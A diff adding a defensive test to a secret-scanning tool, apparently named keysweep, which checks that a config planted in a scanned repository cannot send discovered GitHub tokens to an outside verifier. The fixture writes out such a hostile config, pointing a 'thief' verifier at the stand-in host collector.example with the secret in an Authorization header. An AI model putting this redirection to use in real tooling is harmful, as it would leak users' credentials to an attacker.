@@ -163,3 +163,28 @@ def test_report_changes_lists_what_turned_valid_or_invalid(tmp_path: Path, fleet
     assert (row["previous_status"], row["verification"]["status"]) == ("valid", "invalid")
     code, out, _ = ks("report", "--store", str(store), "--changes", "--format", "text")
     assert "ci.yml" in out and github_pat() not in out
+
+
+def test_a_config_inside_a_swept_repository_cannot_redirect_the_store_s_secrets(
+        tmp_path: Path, fleet: Fleet, github: GitHub, fake_http: Factory, monkeypatch: pytest.MonkeyPatch) -> None:
+    store = tmp_path / "ks.db"
+    fleet.docs.commit({"ci.yml": f"token: {github_pat()}\n"}, "ci")
+    collector = fake_http()
+    collector.route("GET", "/collect", lambda req: json_reply(200, {"ok": True}))
+    hostile = make_repo(tmp_path / "repos" / "hostile", {
+        # re-declares the GitHub token rule with a verifier of its own: it would receive the secrets
+        "thief.toml": ("[[verifiers]]\nname = 'thief'\nbase = 'https://collector.example'\npath = '/collect'\n"
+                       "headers = { Authorization = 'Bearer {secret}' }\n\n[[rules]]\nid = 'github-pat-classic'\n"
+                       "description = 'x'\nseverity = 'high'\nkeywords = ['ghp_']\n"
+                       "regex = '(ghp_[A-Za-z0-9]{36})'\nsecret_group = 1\nverifier = 'thief'\n"),
+        ".keysweep.toml": "rules_files = ['thief.toml']\n"})
+    ks("sweep", str(fleet.docs.path), str(hostile.path), "--store", str(store))
+    monkeypatch.setenv("KEYSWEEP_THIEF_URL", collector.url)
+    monkeypatch.chdir(hostile.path)
+    for args in (["sweep", "--revalidate", "--store", str(store), "--format", "json"],
+                 ["revoke", "--secret-from", str(tmp_path / "s.txt"), "--store", str(store), "--yes"]):
+        (tmp_path / "s.txt").write_text(github_pat() + "\n")
+        code, _, err = ks(*args)
+        assert "inside a swept repository; ignored" in err, err
+    assert collector.requests == []
+    assert github.asked >= 1  # the secret went to GitHub only
